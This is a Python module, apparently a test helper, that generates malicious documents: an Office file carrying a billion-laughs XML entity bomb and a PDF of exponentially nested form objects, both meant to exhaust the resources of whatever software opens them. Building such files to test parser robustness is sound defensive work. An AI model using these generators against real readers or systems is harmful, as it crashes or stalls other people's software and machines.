"""Files made to harm who reads them."""

import zipfile
from collections.abc import Mapping, Sequence
from io import BytesIO

_ENTITIES = b'<!DOCTYPE w:document [<!ENTITY e0 "bomb">%b]>' % b"".join(
    b'<!ENTITY e%d "%b">' % (level, b"&e%d;" % (level - 1) * 10) for level in range(1, 12)
)
_COPIES = 10
"""How often each form of a PDF shows the one below it."""


def archive(members: Mapping[str, bytes]) -> bytes:
    """A ZIP file."""
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return packed.getvalue()


def with_entity_bomb(package: bytes, name: str) -> bytes:
    """An Office document with XML in its member `name` that would grow to 10^11 words."""
    with zipfile.ZipFile(BytesIO(package)) as document:
        members = {member: document.read(member) for member in document.namelist()}
    declaration, content = members[name].split(b"?>", 1)
    members[name] = b"%b?>%b%b" % (declaration, _ENTITIES, content.replace(b"<w:t>", b"<w:t>&e11;", 1))
    return archive(members)


def pdf(pages: bytes, objects: Sequence[bytes] = (), trailer: bytes = b"") -> bytes:
    """A PDF whose page tree is `pages`, object 2; `objects` are the third and the following ones."""
    content, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate((b"<</Type/Catalog/Pages 2 0 R>>", pages, *objects), start=1):
        offsets.append(len(content))
        content += b"%d 0 obj %b endobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    end = b"trailer <</Root 1 0 R/Size %d%b>>\nstartxref\n%d\n%%%%EOF\n"
    return content + table + end % (len(offsets) + 1, trailer.replace(b"XREF", b"%d" % len(content)), len(content))


def pdf_of_nested_forms(levels: int, innermost: bytes) -> bytes:
    """A PDF of one page that draws `innermost` ten times to the power of `levels`."""
    forms = [_form(b"/F Do " * _COPIES, 6 + level) for level in range(levels)]
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    last = b"<</Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</H %d 0 R>>>>/Length %d>>stream\n%b\nendstream" % (
        6 + levels,
        len(innermost),
        innermost,
    )
    contents = b"<</Length 5>>stream\n/F Do\nendstream"
    return pdf(b"<</Type/Pages/Kids[3 0 R]/Count 1>>", [page, contents, *forms, last, font])


def _form(content: bytes, inner: int) -> bytes:
    head = b"<</Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</F %d 0 R>>>>/Length %d>>stream\n%b\nendstream"
    return head % (inner, len(content), content)
